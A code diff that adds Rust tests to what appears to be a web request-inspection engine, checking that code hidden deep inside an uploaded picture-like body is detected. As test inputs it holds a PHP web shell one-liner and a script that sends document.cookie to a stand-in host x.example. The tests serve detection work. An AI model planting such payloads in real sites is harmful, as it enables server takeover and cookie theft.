@@ -148,3 +148,42 @@ fn decoding_of_one_value_leaves_enough_for_the_next() {
     let found = transaction.findings().iter().any(|f| f.point == "body.json.q|base64");
     assert!(found, "{:?}", transaction.findings());
 }
+
+/// Bytes as random as those of a picture.
+fn picture(size: usize) -> Vec<u8> {
+    let mut seed = 7u64;
+    let next = |_| {
+        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+        (seed >> 40) as u8
+    };
+    (0..size).map(next).collect()
+}
+
+fn upload(body: &[u8]) -> Transaction {
+    let mut transaction = Engine::default().transaction();
+    transaction.request_line(b"PUT", b"/pictures/7", Version::Http11);
+    transaction.request_header(b"Host", b"a.example");
+    transaction.request_header(b"Content-Type", b"application/octet-stream");
+    transaction.request_head_end();
+    body.chunks(60_000).for_each(|piece| transaction.request_body(piece));
+    transaction.request_end();
+    transaction
+}
+
+#[test]
+fn code_deep_inside_a_picture_is_found_and_the_picture_is_no_attack() {
+    let (before, after) = (picture(300_000), picture(50_000));
+    let plain = upload(&[&before[..], &after].concat());
+    let late = |f: &&sidewatch::Finding| f.offset > 8192;
+    assert!(!plain.findings().iter().any(|f| late(&f)), "{:#?}", plain.findings());
+    for code in ["<?php system($_GET['c']); ?>", "<script>fetch('//x.example/'+document.cookie)</script>"] {
+        let found = upload(&[&before[..], b"\xff\xfe", code.as_bytes(), &[0], &after].concat());
+        assert_eq!(found.verdict(), Verdict::Attack, "{code}");
+        let at = before.len() as u64;
+        assert!(
+            found.findings().iter().any(|f| (at..at + 60).contains(&f.offset)),
+            "{:#?}",
+            found.findings()
+        );
+    }
+}
